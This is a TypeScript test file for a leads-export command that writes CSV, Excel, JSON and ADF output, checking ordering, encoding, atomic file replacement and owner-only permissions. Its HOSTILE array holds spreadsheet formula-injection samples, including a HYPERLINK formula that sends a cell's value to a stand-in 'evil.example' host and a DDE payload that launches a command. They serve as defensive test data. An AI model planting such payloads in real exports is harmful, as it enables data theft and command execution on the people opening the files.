import { parseSpreadsheetCell } from "../../src/adapters/platform/csv/csv-cell.ts";
import { SHEET_COLUMNS } from "../../src/adapters/formats/csv/sheet-row.ts";
import { readdir, readFile, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { type Lead } from "#domain/leads/index.ts";
import { after, aLead } from "../builders/stored-lead.ts";
import { useLeadsCli } from "./leads-cli.ts";

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1;"Offre")',
  "+352 621 123 456",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1;2)",
  "  =1+1",
  "＝1+1",
  "'déjà cité",
  'a;b,c "d"\nà la ligne',
];

describe("vitrine leads export", () => {
  const cli = useLeadsCli();
  const run = (...words: string[]) => cli().run("export", ...words);

  const rows = (csv: string, delimiter: "," | ";" = ","): readonly Record<string, string>[] =>
    parse(csv, { columns: true, delimiter, bom: true });

  it("writes CSV with one header, oldest first, without formulas and without loss", async () => {
    const leads = HOSTILE.map((text, index) =>
      aLead({
        created_at: after(index).toISOString(),
        fields: { ...aLead().fields, last_name: text, message: text },
      }),
    );
    await cli().saveLeads(...leads.toReversed());
    const { out, err, code } = await run();
    expect([err, code]).toEqual(["8 leads written as csv\n", 0]);
    expect(out.slice(0, out.indexOf("\r\n"))).toBe(SHEET_COLUMNS.join(","));
    const read = rows(out);
    expect(read.map(({ reference }) => reference)).toEqual(leads.map(({ reference }) => reference));
    for (const [index, text] of HOSTILE.entries()) {
      expect(read[index]!.message).not.toMatch(/^[\s"]*[=+\-@＝]/);
      expect(parseSpreadsheetCell(read[index]!.message!)).toBe(text);
      expect(parseSpreadsheetCell(read[index]!.last_name!)).toBe(text);
    }
    expect(read[0]).toMatchObject({
      received: "2026-11-21 13:00",
      kind: "interest",
      location: "bertrange",
      vehicles: "12-1-ford-puma-st-line",
      newsletter: "yes",
      email: "zoe@exemple.lu",
    });
  });

  it("writes for Excel with a byte order mark and semicolons", async () => {
    await cli().saveLeads(aLead());
    const { out } = await run("--excel");
    expect(out.startsWith("\uFEFFreference;received;")).toBe(true);
    expect(rows(out, ";")[0]).toMatchObject({
      first_name: "Zoë",
      message: 'Deux lignes,\nun "guillemet", une \\ et 😀',
    });
  });

  it("writes a JSON array, also of no leads, and nothing else", async () => {
    expect(await run("--format", "json")).toMatchObject({ out: "[]\n", err: "0 leads written as json\n" });
    const leads = [aLead(), aLead({ created_at: after(60).toISOString(), kind: "contact", subject: null })];
    await cli().saveLeads(...leads);
    const { idempotency_key: _key, fingerprint: _print, ...first } = leads[0]!;
    const written = JSON.parse((await run("--format", "json")).out) as Lead[];
    expect(written).toHaveLength(2);
    expect(written[0]).toEqual(first);
    const contacts = await run("--format", "json", "--kind", "contact", "--since", after(30).toISOString());
    expect(JSON.parse(contacts.out)).toHaveLength(1);
    expect(JSON.parse((await run("--format", "json", "--until", after(30).toISOString())).out)).toHaveLength(1);
    expect(JSON.parse((await run("--format", "json", "--location", "diekirch")).out)).toEqual([]);
  });

  it("writes one ADF document", async () => {
    const leads = [aLead(), aLead({ created_at: after(60).toISOString() })];
    await cli().saveLeads(...leads);
    const { out, code } = await run("--format", "adf");
    expect(code).toBe(0);
    expect(out).toMatch(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n<\?adf version="1\.0"\?>\n<adf>\n {2}<prospect/);
    expect(out.match(/<prospect /g)).toHaveLength(2);
    for (const { reference } of leads) expect(out).toContain(`>${reference}</id>`);
    expect(out).toContain("https://www.alzette.example/stock/12-1-ford-puma-st-line");
    expect(out.endsWith("</prospect>\n</adf>\n")).toBe(true);
  });

  it("replaces a file atomically, readable by its owner alone, and keeps the old one on failure", async () => {
    const { folder, saveLeads } = cli();
    await saveLeads(aLead());
    const path = join(folder, "leads.csv");
    await writeFile(path, "old", { mode: 0o644 });
    expect(await run("--output", path)).toEqual({ out: "", err: "1 leads written as csv\n", code: 0 });
    expect(rows(await readFile(path, "utf8"))).toHaveLength(1);
    expect((await stat(path)).mode & 0o077).toBe(0);
    expect((await readdir(folder)).filter((name) => name.endsWith(".part"))).toEqual([]);
    const refused = await run("--output", join(folder, "nowhere", "leads.csv"));
    expect([refused.out, refused.code]).toEqual(["", 3]);
  });

  it("streams thousands of leads in bounded memory", async () => {
    await cli().withDatabase(async ({ store }) => {
      for (let index = 0; index < 1_100; index += 1) {
        await store.save(aLead({ reference: `N${index}`, created_at: after(index % 7).toISOString() }), []);
      }
    });
    const { out, err } = await run();
    expect(err).toBe("1100 leads written as csv\n");
    expect(new Set(rows(out).map(({ reference }) => reference)).size).toBe(1_100);
  });
});
